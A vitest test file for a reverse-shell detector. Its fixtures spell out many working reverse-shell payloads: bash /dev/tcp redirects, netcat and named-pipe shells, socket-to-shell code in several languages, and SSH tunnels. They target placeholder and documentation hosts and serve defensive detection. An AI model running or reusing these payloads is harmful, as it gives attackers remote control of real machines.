import { describe, expect, test } from "vitest";
import { markText } from "../text/marked-text.ts";
import { reverseShell } from "./reverse-shell.ts";

const block = (...lines: readonly string[]) => ["```sh", ...lines, "```"].join("\n");

function seenIn(text: string): readonly string[] {
  return reverseShell
    .find(markText(text, "markdown"))
    .map(({ line, confidence }) => `${line} ${confidence}`);
}

describe("a shell whose input and output are a connection", () => {
  test.each([
    ["in a block", block("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), ["2 medium"]],
    ["in a sentence", "Run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` now.", ["1 low"]],
    ["in one direction", block("nc 203.0.113.7 4444 | sh -i"), ["2 medium"]],
    [
      "over a named pipe",
      block("mkfifo /tmp/p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
      ["3 medium"],
    ],
    [
      "over a pipe that mknod makes",
      block("mknod /tmp/p p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
      ["3 medium"],
    ],
  ])("%s", (_name, text, expected) => {
    expect(seenIn(text)).toEqual(expected);
  });
});

const severities = (text: string) =>
  reverseShell.find(markText(text, "markdown")).map(({ severity }) => severity);

test.each(["ATTACKER", "<your ip>", "LHOST", "ATTACKER_IP", "[address]", "{host}"])(
  "a shell to a host that the reader would fill in is of medium severity in a sentence: %s",
  (host) => {
    expect(
      severities(`The payload is often \`bash -i >& "/dev/tcp/${host}/4444" 0>&1\`, as here.`),
    ).toEqual(["medium"]);
    expect(severities(block(`bash -i >& "/dev/tcp/${host}/4444" 0>&1`))).toEqual([undefined]);
  },
);

test("a shell to a named host is as bad in a sentence, and in a script of any host", () => {
  expect(
    severities("The payload is often `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, as here."),
  ).toEqual([undefined]);
  const script = markText("bash -i >& /dev/tcp/ATTACKER/4444 0>&1", "shell");
  expect(reverseShell.find(script).map(({ severity }) => severity)).toEqual([undefined]);
});

const code = (tag: string, text: string) => `\`\`\`${tag}\n${text}\n\`\`\``;

describe("a connection that runs a shell in", () => {
  test.each([
    [
      "Perl",
      code(
        "perl",
        'socket(S, 2, 1, 6);\nconnect(S, $a);\nopen(STDIN, ">&S");\nexec("/bin/sh -i");',
      ),
    ],
    [
      "Perl, with a module",
      code("perl", 'my $s = IO::Socket::INET->new("203.0.113.7:4444");\nsystem("bash -i");'),
    ],
    ["Ruby", code("ruby", 's = TCPSocket.new("203.0.113.7", 4444)\nexec "sh", in: s')],
    [
      "Ruby, by commands",
      code(
        "ruby",
        'c = TCPSocket.open("203.0.113.7", 4444)\nwhile l = c.gets\n  c.print IO.popen(l).read\nend',
      ),
    ],
    ["Ruby, in backticks", code("ruby", "c = TCPSocket.new(h, 1)\nl = c.recv(9)\nc.print `#{l}`")],
    ["PHP", code("php", '$s = fsockopen("203.0.113.7", 4444);\nexec("sh <&3 >&3");')],
    ["PHP, by commands", code("php", "$s = fsockopen($h, 1);\n$l = fgets($s);\nshell_exec($l);")],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toHaveLength(1);
  });

  test.each([
    ["Ruby that asks a server", code("ruby", 'c = TCPSocket.new("203.0.113.7", 80)\nputs c.gets')],
    ["PHP that tries a port", code("php", '$s = fsockopen("203.0.113.7", 80);\nfclose($s);')],
    [
      "Perl that asks a server",
      code("perl", "socket(S, 2, 1, 6);\nconnect(S, $a);\nprint <S>; # sh"),
    ],
    ["a sentence", "TCPSocket.new(h, 1) and then exec sh is a shell."],
  ])("nothing is said of %s", (_name, text) => {
    expect(seenIn(text)).toEqual([]);
  });
});

test("a tunnel to the SSH server is one, a tunnel to a page is none", () => {
  expect(seenIn(block("ngrok tcp 22"))).toHaveLength(1);
  expect(seenIn(block("cloudflared tunnel --url ssh://127.0.0.1:22"))).toHaveLength(1);
  expect(seenIn(block("ssh -R 8080:[::1]:22 a@serveo.net"))).toHaveLength(1);
  expect(seenIn(block("ngrok http 2200", "ssh -L 22:localhost:22 a@b"))).toEqual([]);
});

describe("silent:", () => {
  test.each([
    ["a shell that writes a log", block("nc -z 203.0.113.7 22", "bash -i > session.log")],
    ["a file that is sent", block("mkfifo /tmp/p", "cat /tmp/p | nc 203.0.113.7 4444")],
    ["the output of a script", block("sh report.sh | nc 203.0.113.7 4444")],
    ["a shell on what a program prints", block("curl -V", "cat a | sh -i")],
    ["a port that is tried", block("nc -z 203.0.113.7 22", "echo > /dev/tcp/203.0.113.7/22")],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toEqual([]);
  });
});

const seenInScript = (text: string) =>
  reverseShell.find(markText(text, "script")).map(({ does }) => does);

describe("a shell on a connection in a compiled language", () => {
  test.each([
    'let s = TcpStream::connect("c.zzz.io:1").unwrap();\nlet f = s.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) });',
    'c, _ := net.Dial("tcp", "c.zzz.io:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
    'Socket s = new Socket("c.zzz.io", 1);\nProcess p = new ProcessBuilder("/bin/sh").start();',
    "$c = New-Object Net.Sockets.TCPClient('c.zzz.io', 8443)\n$s = $c.GetStream()\nwhile (($i = $s.Read($b, 0, 9)) -ne 0) { & ([scriptblock]::Create($t)) }",
    'var c = new TcpClient("c.zzz.io", 1);\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;',
  ])("%s", (text) => expect(seenInScript(text)).toEqual(["opens a shell to a network host"]));

  test.each([
    'TcpStream::connect("c.zzz.io:1").is_ok();\nCommand::new("sh").status();',
    'c, _ := net.Dial("tcp", "c.zzz.io:1")\nexec.Command("/bin/sh").Run()',
  ])("is not one that only connects: %s", (text) => expect(seenInScript(text)).toEqual([]));

  test("in a sentence it is only named", () => {
    const text = 'Use `TcpStream::connect` and `from_raw_fd` with "sh".';
    expect(reverseShell.find(markText(text, "markdown"))).toEqual([]);
  });
});
